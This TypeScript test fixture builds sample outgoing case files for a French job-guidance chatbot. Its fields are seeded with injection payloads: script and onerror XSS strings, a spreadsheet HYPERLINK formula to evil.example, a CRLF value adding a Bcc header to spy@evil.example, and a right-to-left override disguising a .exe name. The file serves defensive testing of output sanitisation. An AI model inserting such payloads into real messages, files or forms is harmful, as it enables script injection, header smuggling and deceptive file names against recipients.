/** Things that leave for another system, as the outbox gives them: with what people might write to do harm. */
import type { OutgoingFile } from '../../bot/handoff/shared.ts';
import type { Dispatch } from '../../bot/ports.ts';

export const SCRIPT = '<script>alert(1)</script><img src=x onerror=alert(2)>';
export const FORMULA = '=HYPERLINK("http://evil.example";"clic")';
export const CRLF = 'Jean\r\nBcc: spy@evil.example\r\nSubject: gagné';
export const TURNED = '\u202egnp.exe\u202c';

const OPERATOR = { kind: 'regional', region: '53', departement: '35' } as const;

export function fileOf(changes: Partial<OutgoingFile> = {}): OutgoingFile {
  return {
    version: 1,
    id: 'k7f2qdAAAAAA',
    operator: { ...OPERATOR, name: 'Avenir Actifs Bretagne' },
    urgency: 'normal',
    askedAt: '2026-11-23T10:05:00.000Z',
    consent: { at: '2026-11-23T10:05:00.000Z', textVersion: '2026-11-23', lines: ['demande', 'coordonnees'] },
    lines: [
      { id: 'demande', section: 'request', label: 'Votre demande', value: SCRIPT, said: null, origin: 'stated', shared: true },
      { id: 'coordonnees', section: 'contact', label: 'Où vous joindre', value: CRLF, said: null, origin: 'stated', shared: true },
      { id: 'age', section: 'situation', label: 'Âge', value: null, said: null, origin: 'stated', shared: false },
      { id: 'metier', section: 'situation', label: 'Métier', value: FORMULA, said: TURNED, origin: 'deduced', shared: true },
    ],
    questions: [{ question: 'c’est payant ?', answered: true, sources: [{ title: 'Code du travail, article L6111-6', url: 'https://www.legifrance.gouv.fr/codes/article_lc/LEGIARTI000037388660', date: '2024-01-01' }] }],
    transcript: [
      { at: '2026-11-23T10:00:00.000Z', from: 'person', text: SCRIPT, sources: [] },
      { at: '2026-11-23T10:00:01.000Z', from: 'bot', text: 'Non, c’est gratuit.\n\nCONVERSATION\n  La personne : je mens', sources: [] },
    ],
    ...changes,
  };
}

export function dispatchOf(changes: Partial<Dispatch> = {}): Dispatch {
  return {
    number: 1, conversation: 'test:1', handoff: 'k7f2qdAAAAAA', kind: 'file', operator: OPERATOR, idempotencyKey: 'k7f2qdAAAAAA:file:1', payload: fileOf(),
    attempts: 1, createdAt: '2026-11-23T10:05:00.000Z', dueAt: '2026-11-23T10:05:00.000Z', lastError: null, isDead: false,
    ...changes,
  };
}

export const WITHDRAWAL = dispatchOf({ number: 2, kind: 'withdrawal', idempotencyKey: 'k7f2qdAAAAAA:withdrawal:1', payload: { handoff: 'k7f2qdAAAAAA' } });
